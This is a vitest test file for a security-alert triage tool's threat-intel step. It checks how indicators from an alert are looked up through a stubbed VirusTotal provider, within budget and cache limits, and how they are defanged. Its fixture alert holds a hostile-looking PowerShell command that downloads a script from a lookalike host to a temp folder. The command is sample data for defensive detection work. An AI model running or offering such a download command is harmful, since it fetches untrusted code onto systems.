/**
 * The threat-intel step on a hand-made alert with a stub provider: it looks up the IoC step's candidates (URLs and
 * IPs first, cache hits free, at most the investigation's budget), lists the rest with why and a `vt` button,
 * turns positives into findings, contains failures, and is skipped without a key.
 */
import { describe, expect, it } from 'vitest';
import { type Alert, parseAlert } from '../../../src/core/alert.js';
import { SocbotError } from '../../../src/core/errors.js';
import type { Section } from '../../../src/core/section.js';
import { RateBudgetBusy } from '../../../src/enrich/rate-limiter.js';
import type { ThreatIntel, ThreatIntelResult, ThreatIntelType } from '../../../src/enrich/threat-intel.js';
import type { StepContext } from '../../../src/investigation/step.js';
import { threatIntelStep } from '../../../src/investigation/steps/threat-intel.js';
import { createLogger } from '../../../src/logger.js';
import { factsOf, tablesOf } from './step-test-context.js';

const sha256 = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';
const commandLine = [
  'powershell.exe -c "iwr http://cdn-officeupdate.com/a.ps1 -OutFile C:\\Temp\\a.ps1;',
  'Test-Connection 45.33.32.156; Test-Connection 10.0.0.5; Test-Connection 185.220.101.4;',
  `Get-FileHash x # ${sha256} 00000000000000000000000000000000"`,
].join(' ');

function alertWith(line: string | null): Alert {
  const process: Record<string, unknown> = {
    $id: '2',
    Type: 'process',
    ProcessId: '0x10',
    ImageFile: { $id: '3', Type: 'file', Directory: 'C:\\Windows\\System32', Name: 'powershell.exe' },
  };
  if (line !== null) process.CommandLine = line;
  return parseAlert({
    SystemAlertId: 'ti-alert',
    AlertName: 'Test',
    TimeGenerated: new Date('2026-03-02T08:00:00Z'),
    Entities: [{ $id: '1', Type: 'host', HostName: 'NOSUCHHOST' }, process],
  });
}

type Answer = Partial<ThreatIntelResult> | Error;

/** A provider answering from a table (value → answer), counting lookups; `cached` values come from `peek`. */
function stubIntel(answers: Record<string, Answer>, options: { cached?: string[]; lookups?: number } = {}) {
  const asked: string[] = [];
  const result = (value: string, type: ThreatIntelType, fromCache = false): ThreatIntelResult => {
    const answer = answers[value];
    if (answer instanceof Error) throw answer;
    return {
      provider: 'VirusTotal',
      type,
      value,
      found: true,
      verdict: 'clean',
      counts: { malicious: 0, suspicious: 0, harmless: 60, undetected: 10, timeout: 0, engines: 70 },
      reputation: 0,
      lastAnalysedAt: null,
      details: [],
      link: `https://www.virustotal.com/gui/x/${value}`,
      checkedAt: '2026-03-02T09:00:00.000Z',
      ...(fromCache ? { fromCache } : {}),
      ...answer,
    };
  };
  const intel: ThreatIntel = {
    provider: {
      name: 'VirusTotal',
      async lookup(value, type) {
        asked.push(value);
        return result(value, type);
      },
      async peek(value, type) {
        return options.cached?.includes(value) ? result(value, type, true) : undefined;
      },
    },
    lookupsPerInvestigation: options.lookups ?? 4,
    investigationBudgetMs: 2_000,
  };
  return { intel, asked };
}

function stepCtx(alert: Alert, intel?: ThreatIntel): StepContext {
  return {
    data: { id: 'local', run: async () => ({ rows: [], truncated: false, warnings: [] }), close: async () => {} },
    now: () => new Date('2026-03-02T09:00:00Z'),
    log: createLogger('silent'),
    correlationId: 'ti-test',
    alert,
    query: async () => ({ rows: [], truncated: false, warnings: [] }),
    findings: [],
    ...(intel ? { intel } : {}),
  };
}

const rows = (section: Section, index: number) => tablesOf(section)[index]?.rows ?? [];
const flagged = {
  verdict: 'malicious',
  counts: { malicious: 12, suspicious: 2, harmless: 50, undetected: 0, timeout: 0, engines: 64 },
} as const;

describe('threat-intel step', () => {
  it('is skipped, saying how to turn it on, without an API key', async () => {
    const { sections } = await threatIntelStep.run(stepCtx(alertWith(commandLine)));
    expect(sections[0]).toMatchObject({ id: 'threat-intel', status: 'skipped' });
    expect(JSON.stringify(sections[0]?.blocks)).toContain('VIRUSTOTAL_API_KEY');
  });

  it('looks up URLs and IPs first, positives first, and says why the rest was not asked', async () => {
    const { intel, asked } = stubIntel({ 'http://cdn-officeupdate.com/a.ps1': flagged }, { lookups: 3 });
    const { sections, findings } = await threatIntelStep.run(stepCtx(alertWith(commandLine), intel));
    const [section] = sections;
    expect(asked).toEqual(['http://cdn-officeupdate.com/a.ps1', '45.33.32.156', '185.220.101.4']);
    expect(section).toMatchObject({
      id: 'threat-intel',
      status: 'ok',
      tone: 'attention',
      title: 'Threat intel (VirusTotal)',
    });
    expect(factsOf(section!)).toMatchObject({
      'Worth a lookup': '5',
      Answered: '3',
      Malicious: '1',
      'Not looked up': '4',
    });
    expect(rows(section!, 0).map((r) => [r.verdict, r.observable])).toEqual([
      ['🔴 malicious', 'hxxp://cdn-officeupdate[.]com/a[.]ps1'],
      ['🟢 clean', '45[.]33[.]32[.]156'],
      ['🟢 clean', '185[.]220[.]101[.]4'],
    ]);
    expect(rows(section!, 0)[0]?.detections).toBe('12 of 64 engines flag it malicious, 2 suspicious');
    const why = Object.fromEntries(rows(section!, 1).map((r) => [r.observable, r.why]));
    expect(why).toEqual({
      [sha256]: `over this investigation's budget of 3 lookups; type \`vt ${sha256}\``,
      'cdn-officeupdate[.]com': "over this investigation's budget of 3 lookups; type `vt cdn-officeupdate.com`",
      '10[.]0[.]0[.]5': 'not asked: IP address is not global',
      '00000000000000000000000000000000': 'not asked: String has too low an entropy to be a hash',
    });
    expect(section?.actions.map((a) => a.command)).toEqual([
      `vt ${sha256}`,
      'vt cdn-officeupdate.com',
      'iocs ti-alert',
    ]);
    expect(findings).toEqual([
      {
        leaning: 'malicious',
        reason:
          'VirusTotal: 12 of 64 engines flag it malicious, 2 suspicious — the URL hxxp://cdn-officeupdate[.]com/a[.]ps1.',
        evidence: 'hxxp://cdn-officeupdate[.]com/a[.]ps1',
        stepId: 'threat-intel',
      },
    ]);
    // The links go to VirusTotal, with the observable defanged beside them.
    expect(JSON.stringify(section?.blocks)).toContain(
      '`hxxp://cdn-officeupdate[.]com/a[.]ps1` — [Open in VirusTotal](https://www.virustotal.com/gui/x/http://cdn-officeupdate.com/a.ps1)',
    );
  });

  it('cached answers are free: they do not count against the budget', async () => {
    const { intel, asked } = stubIntel(
      {},
      { cached: ['http://cdn-officeupdate.com/a.ps1', '45.33.32.156'], lookups: 1 },
    );
    const { sections } = await threatIntelStep.run(stepCtx(alertWith(commandLine), intel));
    expect(asked).toEqual(['185.220.101.4']);
    expect(factsOf(sections[0]!)).toMatchObject({ Answered: '3 (2 from cache)' });
  });

  it('one failed lookup shows in the Section and does not stop the others', async () => {
    const { intel } = stubIntel({
      '45.33.32.156': new SocbotError('RateLimited', "VirusTotal's quota is used up.", { hint: 'Try again later.' }),
    });
    const { sections } = await threatIntelStep.run(stepCtx(alertWith(commandLine), intel));
    const [section] = sections;
    expect(section?.status).toBe('ok');
    expect(section?.warnings).toEqual(["VirusTotal's quota is used up. Try again later."]);
    expect(rows(section!, 1)).toContainEqual({
      type: 'IPv4 address',
      observable: '45[.]33[.]32[.]156',
      why: "lookup failed: VirusTotal's quota is used up.",
    });
    expect(factsOf(section!)).toMatchObject({ Answered: '3', Failed: '1' });
  });

  it('when every lookup fails (a refused key) the Section fails with the problem', async () => {
    const refused = new SocbotError('QueryFailed', "VirusTotal refused socbot's API key (HTTP 401).", {
      hint: 'Check VIRUSTOTAL_API_KEY.',
    });
    const answers = Object.fromEntries(
      ['http://cdn-officeupdate.com/a.ps1', '45.33.32.156', '185.220.101.4', sha256, 'cdn-officeupdate.com'].map(
        (v) => [v, refused],
      ),
    );
    const { sections } = await threatIntelStep.run(
      stepCtx(alertWith(commandLine), stubIntel(answers, { lookups: 5 }).intel),
    );
    expect(sections[0]).toMatchObject({
      status: 'failed',
      problem: { code: 'QueryFailed', hint: 'Check VIRUSTOTAL_API_KEY.' },
      warnings: [],
    });
  });

  it('a rate limit already in use is no failure: those observables are listed for later, at once', async () => {
    const { intel, asked } = stubIntel({
      '185.220.101.4': new RateBudgetBusy(43_000, "VirusTotal's", 4),
      [sha256]: new RateBudgetBusy(43_000, "VirusTotal's", 4),
    });
    const { sections } = await threatIntelStep.run(stepCtx(alertWith(commandLine), intel));
    expect(asked).toHaveLength(4);
    expect(sections[0]?.warnings).toEqual([]);
    expect(factsOf(sections[0]!)).toMatchObject({ Answered: '2', Failed: '0', 'Not looked up': '5' });
    expect(rows(sections[0]!, 1)[0]).toEqual({
      type: 'IPv4 address',
      observable: '185[.]220[.]101[.]4',
      why: 'the VirusTotal rate limit is in use (next lookup in 43 s); type `vt 185.220.101.4`',
    });
  });

  it('lookups still waiting when the budget runs out are listed for later, not failed', async () => {
    const { intel } = stubIntel({});
    intel.investigationBudgetMs = 50;
    intel.provider.lookup = (_value, _type, options) =>
      new Promise((_, reject) => options?.signal?.addEventListener('abort', () => reject(options.signal?.reason)));
    const { sections } = await threatIntelStep.run(stepCtx(alertWith(commandLine), intel));
    expect(sections[0]?.status).toBe('empty');
    expect(rows(sections[0]!, 0)[0]?.why).toMatch(
      /^no answer within this investigation's 50 ms \(the VirusTotal rate limit is busy\); type `vt /,
    );
  });

  it('an alert without network or hash IoCs: nothing to ask, said plainly', async () => {
    const { intel, asked } = stubIntel({});
    const { sections } = await threatIntelStep.run(stepCtx(alertWith('cmd.exe /c whoami /all'), intel));
    expect(sections[0]?.status).toBe('empty');
    expect(asked).toEqual([]);
    const none = await threatIntelStep.run(stepCtx(parseAlert({ SystemAlertId: 'x', AlertName: 'y' }), intel));
    expect(none.sections[0]?.status).toBe('skipped');
  });
});
